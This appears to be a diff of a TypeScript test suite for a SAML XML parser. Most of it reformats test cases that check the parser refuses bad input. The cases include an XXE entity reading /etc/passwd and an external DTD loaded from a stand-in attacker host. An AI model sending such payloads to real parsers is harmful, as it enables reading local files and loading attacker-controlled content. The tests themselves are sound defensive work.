@@ -45,7 +45,10 @@ describe(parseSamlXml.name, () => {
 
     it.each([
       ["the billion laughs", laughs],
-      ["an external entity reading a local file", `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<samlp:Response xmlns:samlp="${PROTOCOL}"><x>&xxe;</x></samlp:Response>`],
+      [
+        "an external entity reading a local file",
+        `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<samlp:Response xmlns:samlp="${PROTOCOL}"><x>&xxe;</x></samlp:Response>`,
+      ],
       ["an external DTD", `<!DOCTYPE samlp:Response SYSTEM "http://attacker.invalid/evil.dtd">${RESPONSE}`],
       ["a lower-case doctype", `<!doctype r>${RESPONSE}`],
       ["an entity declaration outside a DOCTYPE", `<!ENTITY x "y">${RESPONSE}`],
@@ -59,13 +62,33 @@ describe(parseSamlXml.name, () => {
   });
 
   it.each([
-    ["cut off after a start tag", RESPONSE.slice(0, RESPONSE.indexOf("<saml:Issuer>")), "the SAML response is not well-formed XML (cut off?): unclosed xml tag(s): samlp:Response, saml:Assertion"],
-    ["cut off inside a start tag", RESPONSE.slice(0, RESPONSE.indexOf('ID="_a"')), "the SAML response is not well-formed XML (cut off?): unexpected end of input"],
-    ["cut off inside the last end tag", RESPONSE.slice(0, -4), 'the SAML response is not well-formed XML (cut off?): end tag name contains invalid characters: "samlp:Respo"'],
-    ["with mismatched tags", `<samlp:Response xmlns:samlp="${PROTOCOL}"><a></b></samlp:Response>`, 'the SAML response is not well-formed XML: Opening and ending tag mismatch: "a" != "b"'],
+    [
+      "cut off after a start tag",
+      RESPONSE.slice(0, RESPONSE.indexOf("<saml:Issuer>")),
+      "the SAML response is not well-formed XML (cut off?): unclosed xml tag(s): samlp:Response, saml:Assertion",
+    ],
+    [
+      "cut off inside a start tag",
+      RESPONSE.slice(0, RESPONSE.indexOf('ID="_a"')),
+      "the SAML response is not well-formed XML (cut off?): unexpected end of input",
+    ],
+    [
+      "cut off inside the last end tag",
+      RESPONSE.slice(0, -4),
+      'the SAML response is not well-formed XML (cut off?): end tag name contains invalid characters: "samlp:Respo"',
+    ],
+    [
+      "with mismatched tags",
+      `<samlp:Response xmlns:samlp="${PROTOCOL}"><a></b></samlp:Response>`,
+      'the SAML response is not well-formed XML: Opening and ending tag mismatch: "a" != "b"',
+    ],
     ["with text after the Response", `${RESPONSE}trailing`, "the SAML response is not well-formed XML: Extra content at the end of the document"],
     ["with only a declaration", '<?xml version="1.0"?>', "the SAML response is not well-formed XML (cut off?): missing root element"],
-    ["with a prefix that is neither declared nor a SAML one", `<samlp:Response xmlns:samlp="${PROTOCOL}"><foo:x/></samlp:Response>`, /^the SAML response is not well-formed XML: .*prefix is non-null and namespace is null/],
+    [
+      "with a prefix that is neither declared nor a SAML one",
+      `<samlp:Response xmlns:samlp="${PROTOCOL}"><foo:x/></samlp:Response>`,
+      /^the SAML response is not well-formed XML: .*prefix is non-null and namespace is null/,
+    ],
   ])("refuses XML %s in one line", (_name, xml, message) => {
     const error = refusal(xml);
     expect(error.message).toMatch(typeof message === "string" ? new RegExp(`^${message.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}$`) : message);
@@ -125,7 +148,11 @@ describe(parseSamlXml.name, () => {
         now,
       }).replace(/^<\?xml[^>]*>\s*/, "");
       // Shibboleth-style: the namespaces live on the envelope, xs is used only in attribute values.
-      const declarations = /^<saml2p:Response([^>]*)>/.exec(unsigned)?.[1]?.match(/ xmlns:\w+="[^"]*"/g)?.join("") ?? "";
+      const declarations =
+        /^<saml2p:Response([^>]*)>/
+          .exec(unsigned)?.[1]
+          ?.match(/ xmlns:\w+="[^"]*"/g)
+          ?.join("") ?? "";
       const body = unsigned.replace(/ xmlns:\w+="[^"]*"/g, "").replace(/<saml:AttributeValue>/g, '<saml:AttributeValue xsi:type="xs:string">');
       const envelope = `<soap11:Envelope xmlns:soap11="http://schemas.xmlsoap.org/soap/envelope/"${declarations} xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap11:Body>${body}</soap11:Body></soap11:Envelope>`;
       const signer = new SignedXml({
